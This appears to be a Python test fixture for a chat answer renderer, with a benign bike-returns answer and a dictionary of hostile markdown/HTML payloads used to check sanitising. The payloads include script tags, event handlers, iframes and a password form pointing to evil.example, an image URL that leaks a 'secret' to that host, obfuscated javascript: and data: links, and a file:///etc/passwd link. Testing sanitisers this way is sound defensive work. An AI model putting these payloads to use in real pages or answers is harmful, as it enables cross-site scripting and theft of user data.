"""Conversations to look at, and answers that mean harm."""

from chat_stub import citation, source, text, tool

RETURNS = """## Returning a bike

You can send a bike back within **30 days** of delivery, as long as it is *unridden* and in its original box.

1. Open [your orders](https://velo.example/orders) and choose **Return**.
2. Print the label:
   - one for the box
   - one for the battery, if there is one
3. Hand it in at any parcel shop.

| Bike | Returns | Fee | Pick-up |
| --- | :---: | ---: | --- |
| City | 30 days | 0 € | yes |
| E-bike | 30 days | 19 € | yes, with battery |
| Cargo | 14 days | 49 € | by appointment only |

```python
def days_left(delivered: date, today: date) -> int:
    \"\"\"How long a bike can still be sent back, in days; nothing is rounded in favour of the shop.\"\"\"
    return max(0, 30 - (today - delivered).days)
```

> Worn tyres count as ridden.

- [x] Original box
- [ ] Battery below 30 %

See also https://velo.example/returns."""


def returns():
    """An answer with everything that answers have."""
    first = RETURNS.index("30 days**") + len("30 days**")
    second = RETURNS.index("parcel shop.") + len("parcel shop.")
    return [
        *tool("file_search"), *text(RETURNS),
        *source("s1", "Returns and warranty", filename="knowledge/returns.md", passage="Bikes can be sent back within 30 days."),
        *source("s2", "Shipping of batteries", filename="knowledge/batteries.md"),
        citation("s1", 0, first), citation("s1", 0, second), citation("s2", 0, second),
    ]


#: Answers by what they try, each with what a reader must still see of it.
HOSTILE = {
    "script": ("<script>window.broken = 1</script> after", "<script>window.broken = 1</script> after"),
    "handlers": ('<img src=x onerror="window.broken = 1"> <svg onload="window.broken = 1">', "onerror"),
    "frames": ('<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>', "<iframe"),
    "styles": ("<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>", "<style>"),
    "forms": ('<form action="https://evil.example"><input name=password></form>', "<form"),
    "images": ("![secret](https://evil.example/pixel.png?q=secret) ![](https://evil.example/x.svg)", "Image: secret"),
    "javascript links": ("[click](javascript:window.broken=1) [click](JaVaScRiPt&colon;alert(1)) [click](java\tscript:alert(1))", "click"),
    "data links": ("[click](data:text/html,<script>window.broken=1</script>) <data:text/html,x>", "click"),
    "other links": ("[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](blob:https://x) [e](https://user:pw@evil.example)", "a b c d e"),
    "link attributes": ('[a](https://velo.example/" onmouseover="window.broken=1) <https://velo.example/"onclick="window.broken=1>', "a"),
    "html in code": ("```html\n</code></pre><script>window.broken = 1</script>\n```", "</code></pre><script>"),
    "html in a table": ("| <b onclick=alert(1)>x</b> | y |\n|---|---|\n| <script>window.broken=1</script> | z |", "<script>"),
    "class of a fence": ('```"><script>window.broken=1</script>\nx\n```', "x"),
    "marks of our own": ("A \ue000 and \ue001\ue0ff", "A"),
}
